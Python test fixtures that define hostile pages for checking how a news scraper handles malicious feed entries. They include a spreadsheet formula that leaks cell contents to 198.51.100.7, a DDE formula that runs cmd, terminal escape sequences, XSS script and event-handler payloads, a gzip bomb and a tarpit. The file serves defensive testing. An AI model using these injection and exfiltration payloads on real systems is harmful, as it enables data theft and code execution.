"""The pages of the Minefield: what each one does, and what its entry in the feed says."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import partial

from newsroom import hostile_bodies as bodies
from newsroom.mischief import End, Misbehaviour

_HTML = "text/html; charset=utf-8"
_SUMMARY = "The lock keeper of Brackwater collects lost gloves, and all of them are for the left hand."
FORMULA = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"Croatia expels four Syrian diplomats")'
FORMULA_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"
TERMINAL = (
    "\x1b[2J\x1b[31mMalta expels two Eritrean diplomats\x1b]0;owned\x07\x9b1m \u202eseirotser\u202c "
    "<script>alert('title')</script> **bold** [a link](javascript:alert(1)) | `code`"
)
TERMINAL_AUTHOR = "Mallory \x1b]8;;http://198.51.100.7/\x07<img src=x onerror=alert(2)>"

_FOUR_SYRIANS = (
    "Croatia has expelled four diplomats of the Syrian embassy whom it accuses of spying on refugees in Rijeka. The "
    "four were declared personae non gratae on Monday and were told to leave the country by Thursday noon.",
    "The foreign ministry in Zagreb said that the officers had worked under diplomatic cover for a military "
    "intelligence service and had paid two interpreters for lists of names and addresses. The ambassador was "
    "summoned and handed a note of protest.",
    "Damascus called the expulsion groundless and announced that it would order Croatian diplomats to leave in "
    "return. It is the largest number of embassy staff that Croatia has ever sent home at once, a spokeswoman said. "
    "Parliament's committee on security will hear the head of counter-intelligence behind closed doors.",
)
_TWO_ERITREANS = (
    "Malta has ordered two diplomats of the Eritrean embassy to leave the island within 48 hours. They were declared "
    "personae non gratae for activities that are not compatible with their status, the foreign ministry in Valletta "
    "said.",
    "According to the security service the two attaches had threatened exiles and collected a tax from them in the "
    "back room of a bakery. The charge d'affaires was summoned on Tuesday morning and told of the expulsion.",
    "Asmara protested and said that it would consider expelling a Maltese envoy in response. Three exiles told the "
    "police that they had been photographed outside their flats. The embassy's bank account has been closed as well, "
    "the minister told parliament.",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class HostilePage:
    """A page, its row in the table, and its entry in the feed."""

    row: Misbehaviour
    build: Callable[[], bytes]
    title: str
    summary: str = _SUMMARY
    author: str = "The lock keeper"
    media_type: str = _HTML
    headers: Mapping[str, str] = field(default_factory=dict)
    drips: bool = False


def _row(name: str, what: str, first_run: str, *, end: End, reasons: tuple[str, ...] = ()) -> Misbehaviour:
    second = "asked again once it is due, with the same end" if end == "waiting" else "known"
    return Misbehaviour(
        name=name,
        on="page",
        outlet="minefield",
        path=f"/page/{name}",
        statuses=(200,),
        what=what,
        first_run=first_run,
        second_run=second,
        ends=(end,),
        reasons=reasons,
    )


_LIMITS = ("time_limit", "memory_limit", "worker_died", "extractor_error", "no_text", "empty")
_STORED = "stored from the page, or set aside at a limit with the feed's summary stored"
_TITLE = "Gloves for the left hand"

PAGES: tuple[HostilePage, ...] = (
    HostilePage(
        row=_row(
            "spreadsheet-formula",
            "a match whose title and author are formulas of a spreadsheet",
            "stored and tagged; nothing that goes out begins with a formula",
            end="page",
        ),
        build=partial(bodies.page, FORMULA, author=FORMULA_AUTHOR, text=_FOUR_SYRIANS),
        title=FORMULA,
        author=FORMULA_AUTHOR,
        summary="Zagreb accuses four officers of the Syrian embassy of spying and sends them home.",
    ),
    HostilePage(
        row=_row(
            "terminal-sequences",
            "a match with terminal sequences, script, markup and a turn of writing direction in title and author",
            "stored and tagged; nothing of it works in terminal, Markdown or HTML",
            end="page",
        ),
        build=partial(
            bodies.page,
            TERMINAL,
            "<script>alert('text')</script>\n<p>\x1b[5mBlink\x1b[0m <b onclick=alert(3)>and click</b>.</p>\n",
            author=TERMINAL_AUTHOR,
            text=_TWO_ERITREANS,
        ),
        title=TERMINAL,
        author=TERMINAL_AUTHOR,
        summary="Valletta declares two Eritrean attaches personae non gratae and gives them 48 hours.",
    ),
    HostilePage(
        row=_row(
            "huge-spans",
            "a page of some 53 KB with a table of 1,000 rows whose cells say rowspan=100 colspan=100",
            _STORED,
            end="stored",
            reasons=_LIMITS,
        ),
        build=partial(bodies.table_page, f"{_TITLE}: the table"),
        title=f"{_TITLE}: the table",
    ),
    HostilePage(
        row=_row("nested-tags", "a page of 50,000 nested tags", _STORED, end="stored", reasons=_LIMITS),
        build=partial(bodies.nested_page, f"{_TITLE}: the tower"),
        title=f"{_TITLE}: the tower",
    ),
    HostilePage(
        row=_row(
            "many-attributes", "a page with 50,000 attributes on one tag", _STORED, end="stored", reasons=_LIMITS
        ),
        build=partial(bodies.attributes_page, f"{_TITLE}: the label"),
        title=f"{_TITLE}: the label",
    ),
    HostilePage(
        row=_row("nul-bytes", "a page with a NUL after every fifth byte", _STORED, end="stored", reasons=_LIMITS),
        build=partial(bodies.nul_bytes, f"{_TITLE}: the holes"),
        title=f"{_TITLE}: the holes",
    ),
    HostilePage(
        row=_row(
            "pdf-as-page",
            "a PDF that says it is text/html",
            "the feed's summary is stored, the failure beside it",
            end="feed",
            reasons=("not_html", "no_text", "empty"),
        ),
        build=bodies.pdf,
        title=f"{_TITLE}: the leaflet",
    ),
    HostilePage(
        row=_row(
            "json-as-page",
            "JSON that says it is text/html",
            "the feed's summary is stored, the failure beside it",
            end="feed",
            reasons=("not_html", "no_text", "empty"),
        ),
        build=bodies.json_answer,
        title=f"{_TITLE}: the list",
    ),
    HostilePage(
        row=_row(
            "charset-lie",
            "header and page say UTF-8, and the bytes are windows-1252",
            "stored with its umlauts, or with marks in their places",
            end="page",
        ),
        build=partial(bodies.wrong_charset, "Handschuhe für die linke Hand"),
        title="Handschuhe für die linke Hand",
        summary="Der Schleusenwärter sammelt Handschuhe, und alle sind für die linke Hand.",
    ),
    HostilePage(
        row=_row(
            "gzip-bomb",
            "some 30 KB of gzip that unfold to 30 MB",
            "broken off at the size limit; the feed's summary is stored, the failure beside it",
            end="feed",
            reasons=("too_large",),
        ),
        build=bodies.gzip_bomb,
        title=f"{_TITLE}: the suitcase",
        headers={"Content-Encoding": "gzip"},
    ),
    HostilePage(
        row=_row(
            "tarpit",
            "a page that never ends: a byte a second, for ever",
            "broken off at the time limit of a request; due again",
            end="waiting",
            reasons=("timeout",),
        ),
        build=partial(bytes, b"<!DOCTYPE html><html><head><title>Wait</title></head><body><p>"),
        title=f"{_TITLE}: the long wait",
        drips=True,
    ),
)
